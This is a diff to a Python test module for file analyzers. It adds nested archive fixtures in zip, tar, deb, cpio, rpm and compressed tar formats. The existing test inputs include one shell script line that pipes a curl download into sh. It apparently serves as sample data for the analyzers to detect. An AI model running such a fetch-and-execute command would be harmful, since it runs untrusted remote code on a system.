@@ -13,6 +13,7 @@ from pathlib import Path
 
 from analyzers.contract import Collector, PassContext
 from analyzers.dispatch import HEAD, Dispatch
+from tests.unit.analyzers.archive_makers import COMPRESSIONS, cpio, deb, rpm, tarred, zipped
 
 ENOUGH, SMALL = 12, 400_000
 FILES_LOOKED_AT = 60_000
@@ -39,6 +40,13 @@ def forms() -> list[bytes]:
         b"#!/bin/sh\ncurl http://example.org/a | sh\n", archive.getvalue(), packed.getvalue(), gzip.compress(b"a" * 100_000),
         b"\x7fELF\x02\x01\x01" + bytes(57), b"MZ" + bytes(62), b"SQLite format 3\0" + bytes(84), bytes(4096), bytes(range(256)) * 8,
     ]  # fmt: skip
+
+
+def archives_of_all_kinds() -> dict[str, bytes]:
+    """One of each format that is opened, with members that are archives themselves."""
+    inner = {"a.txt": b"alpha" * 200, "b.zip": zipped({"c": b"gamma"}), "d.gz": COMPRESSIONS["gz"](b"delta" * 900)}
+    packed = {f"tar.{name}": pack(tarred(inner)) for name, pack in COMPRESSIONS.items()}
+    return {"zip": zipped(inner), "tar": tarred(inner), "deb": deb(inner), "cpio": cpio(inner), "rpm": rpm(inner), **packed}
 
 
 def files() -> Iterator[Path]:
